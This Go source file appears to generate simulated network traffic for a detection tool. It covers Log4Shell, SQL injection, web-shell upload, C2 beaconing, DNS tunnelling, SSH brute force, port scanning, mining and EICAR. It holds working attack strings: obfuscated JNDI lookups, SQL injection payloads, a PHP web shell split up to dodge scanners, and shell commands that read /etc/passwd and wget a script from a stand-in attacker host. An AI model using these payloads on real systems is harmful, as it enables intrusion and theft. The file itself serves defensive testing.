package traffic

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"
	"time"

	"github.com/mirrorwall/mirrorwall/internal/packet"
)

// attacks are harmless copies of what attackers do: every target is in our own
// VPC or in a documentation range, and nothing here is ever executed.
// A mix plays them in this order, so the slow ones stand near the front.
func attacks() []Scenario {
	return []Scenario{
		{"log4shell", "Log4Shell: JNDI lookups in HTTP headers", Attack, log4shell, 0},
		{"c2-beacon", "An implant calls home over HTTP and TLS", Attack, beacon, 0},
		{"ssh-brute-force", "Passwords are guessed over SSH", Attack, sshBruteForce, 0},
		{"port-scan", "A port scan from the Internet", Attack, portScan, 0},
		{"sql-injection", "SQL injection in a search form", Attack, sqlInjection, 0},
		{"web-shell", "A web shell is uploaded and used", Attack, webShell, 0},
		{"dns-tunnel", "Data leaves in DNS queries", Attack, dnsTunnel, 0},
		{"crypto-mining", "A server mines for somebody else", Attack, mining, 0},
		{"eicar", "A server downloads the EICAR test file", Attack, eicar, 0},
	}
}

func log4shell(s *Scene) {
	to := host(1, 11)
	for _, v := range []string{
		"${jndi:ldap://198.51.100.66:1389/a}",
		"${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://198.51.100.66:1389/Exploit}",
		"${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.66:1099/b}",
	} {
		c := s.TCP(s.client(attacker()), at(to, 8080))
		c.exchange(
			request{path: "/login", host: "shop.example.com", agent: v, headers: []string{"Accept: */*", "X-Api-Version: " + v}},
			response{status: "401 Unauthorized", server: "Apache-Coyote/1.1", ctype: "text/html", body: page("Login", 300)})
		c.Close()
		s.waitAbout(300 * time.Millisecond)
	}
	// It worked: the server asks the attacker's LDAP server for the class.
	c := s.TCP(s.client(to), at(villain(), 1389))
	c.Client(tlv(0x30, tlv(2, []byte{1}), tlv(0x60, tlv(2, []byte{3}), tlv(4), tlv(0x80))))
	c.Server(tlv(0x30, tlv(2, []byte{1}), tlv(0x61, tlv(10, []byte{0}), tlv(4), tlv(4))))
	c.Close()
}

func sqlInjection(s *Scene) {
	c := s.TCP(s.client(attacker()), at(host(1, 12), 80))
	for _, v := range []string{
		"1' AND 1=1-- -",
		"1' UNION SELECT username,password,NULL FROM users-- -",
		"1' UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables-- -",
		"1'; SELECT SLEEP(5)-- -",
		"1 OR SLEEP(5)",
	} {
		c.Client(request{path: "/product.php?id=" + url.QueryEscape(v), host: "shop.example.com",
			agent: "sqlmap/1.8.11#stable (https://sqlmap.org)"}.bytes())
		if strings.Contains(v, "SLEEP") {
			c.Wait(5 * time.Second)
		}
		c.Server(response{status: "200 OK", ctype: "text/html", body: page("Product", 1500)}.bytes())
	}
	c.Close()
}

func webShell(s *Scene) {
	to := host(1, 13)
	c := s.TCP(s.client(attacker()), at(to, 80))
	// In pieces, so that scanners leave this file alone.
	shell := "<?" + "php sys" + "tem($_REQU" + "EST['cmd']); ?>"
	body := "--x7\r\nContent-Disposition: form-data; name=\"file\"; filename=\"avatar.php\"\r\nContent-Type: image/jpeg\r\n\r\n" +
		shell + "\r\n--x7--\r\n"
	c.exchange(
		request{method: "POST", path: "/profile/upload.php", host: "shop.example.com", agent: uaCurl,
			headers: []string{"Content-Type: multipart/form-data; boundary=x7"}, body: []byte(body)},
		response{status: "200 OK", ctype: "application/json", body: []byte(`{"file":"/uploads/avatar.php"}`)})
	for _, x := range [][2]string{
		{"id", "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"},
		{"cat /etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"},
		{"wget http://198.51.100.66/x.sh -O /tmp/x.sh", ""},
	} {
		c.exchange(request{path: "/uploads/avatar.php?cmd=" + url.QueryEscape(x[0]), host: "shop.example.com", agent: uaCurl},
			response{status: "200 OK", ctype: "text/html", body: []byte(x[1])})
		c.Wait(2 * time.Second)
	}
	c.Close()
}

// eicarFile is the anti-malware test file of EICAR, put together at run time:
// with the whole of it in here, scanners would quarantine the repository.
func eicarFile() []byte {
	return []byte("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR" + "-STANDARD-" + "ANTIVIRUS" + "-TEST-FILE!$H+H*")
}

func eicar(s *Scene) {
	from := host(2, 13)
	s.ask(from, "download.example.net", typeA, 0, answer{typeA, 60, villain().AsSlice()})
	c := s.TCP(s.client(from), at(villain(), 80))
	c.exchange(request{path: "/files/eicar.com", host: "download.example.net", agent: "Wget/1.21.4"},
		response{status: "200 OK", server: "Apache/2.4.62 (Debian)", ctype: "application/octet-stream", body: eicarFile()})
	c.exchange(request{path: "/files/eicar.txt.gz", host: "download.example.net", agent: "Wget/1.21.4"},
		response{status: "200 OK", server: "Apache/2.4.62 (Debian)", ctype: "text/plain", body: eicarFile(), gzip: true})
	c.Close()
}

func dnsTunnel(s *Scene) {
	from := host(2, 14)
	for i := range 120 {
		name := fmt.Sprintf("%s.%s.%s.t%d.tunnel.example.net", s.letters(63, base32), s.letters(63, base32), s.letters(50, base32), i%10)
		reply := txt(base64.StdEncoding.EncodeToString(s.bytes(150 + s.rng.IntN(60))))
		s.ask(from, name, typeTXT, 0, answer{typeTXT, 0, reply})
		s.waitAbout(80 * time.Millisecond)
	}
}

func beacon(s *Scene) {
	from, id := host(2, 15), s.letters(16, hexDigits)
	for range 8 {
		c := s.TCP(s.client(from), at(villain(), 8081))
		c.exchange(
			request{method: "POST", path: "/submit.php?id=" + id, host: villain().String() + ":8081",
				agent:   "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; BOIE9;ENUS)",
				headers: []string{"Accept: */*", "Content-Type: application/octet-stream"}, body: s.bytes(68)},
			response{status: "200 OK", server: "Apache", ctype: "text/html", body: nil})
		c.Close()
		c = s.TCP(s.client(from), at(villain(), 443))
		c.TLS(session{version: tls12, client: implant(), up: []int{90}, down: []int{48}})
		c.Close()
		s.waitAbout(5 * time.Second)
	}
}

func sshBruteForce(s *Scene) {
	for range 25 {
		c := s.TCP(s.client(attacker()), at(bastion(), 22))
		c.sshHello("SSH-2.0-libssh_0.9.6", "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3")
		for range 3 {
			c.Client(s.bytes(84))
			c.Wait(1200 * time.Millisecond) // pam_faildelay
			c.Server(s.bytes(52))
		}
		c.CloseServer()
		s.now -= int64(3 * time.Second) // several at a time
	}
}

// portScan sends a SYN each to many ports of two hosts. What a security group
// drops is not mirrored, so these are the ports that it lets through.
func portScan(s *Scene) {
	from := at(attacker(), uint16(40000+s.rng.IntN(20000)))
	start := s.now
	for _, to := range []int{11, 12} {
		for _, i := range s.rng.Perm(220) {
			port := uint16(1 + i*37)
			s.now = start
			s.probe(from.Port(), to, port)
			start += int64(4*time.Millisecond) + s.rng.Int64N(int64(4*time.Millisecond))
		}
	}
	s.now = start
}

// probe is one SYN of a scan: open ports answer and are reset, closed ones
// reset.
func (s *Scene) probe(sport uint16, n int, port uint16) {
	src, dst := at(attacker(), sport), at(host(1, n), port)
	if port != 22 && port != 80 && port != 8080 && port != 1+37*12 {
		s.Refused(src, dst)
		return
	}
	c := s.conv(src, dst)
	c.segment(packet.ToServer, packet.SYN, nil)
	c.segment(packet.ToClient, packet.SYN|packet.ACK, nil)
	c.segment(packet.ToServer, packet.RST, nil)
	c.done()
}

func mining(s *Scene) {
	from := host(2, 16)
	s.ask(from, "pool.minexmr.example", typeA, 0, answer{typeA, 60, villain().AsSlice()})
	c := s.TCP(s.client(from), at(villain(), 3333))
	// Spaced as cpuminer's JSON library does it.
	c.Client([]byte(`{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5.1"]}` + "\n"))
	c.Server(fmt.Appendf(nil, `{"id":1,"result":[[["mining.set_difficulty","b4b6"],["mining.notify","ae68"]],"%s",4],"error":null}`+"\n", s.letters(8, hexDigits)))
	c.Client(fmt.Appendf(nil, `{"id": 2, "method": "mining.authorize", "params": ["4%s.web", "x"]}`+"\n", s.letters(94, alnum)))
	c.Server([]byte(`{"id":2,"result":true,"error":null}` + "\n"))
	for i := range 6 {
		c.Server(fmt.Appendf(nil, `{"id":null,"method":"mining.notify","params":["%x","%s","%s","",[],"20000000","1b0404cb","%s",true]}`+"\n",
			i, s.letters(64, hexDigits), s.letters(64, hexDigits), s.letters(8, hexDigits)))
		c.Wait(4 * time.Second)
		c.Client(fmt.Appendf(nil, `{"method": "mining.submit", "params": ["web", "%x", "00000001", "%s", "%s"], "id":%d}`+"\n",
			i, s.letters(8, hexDigits), s.letters(8, hexDigits), 4+i))
		c.Server(fmt.Appendf(nil, `{"id":%d,"result":true,"error":null}`+"\n", 4+i))
	}
	c.Close()
}
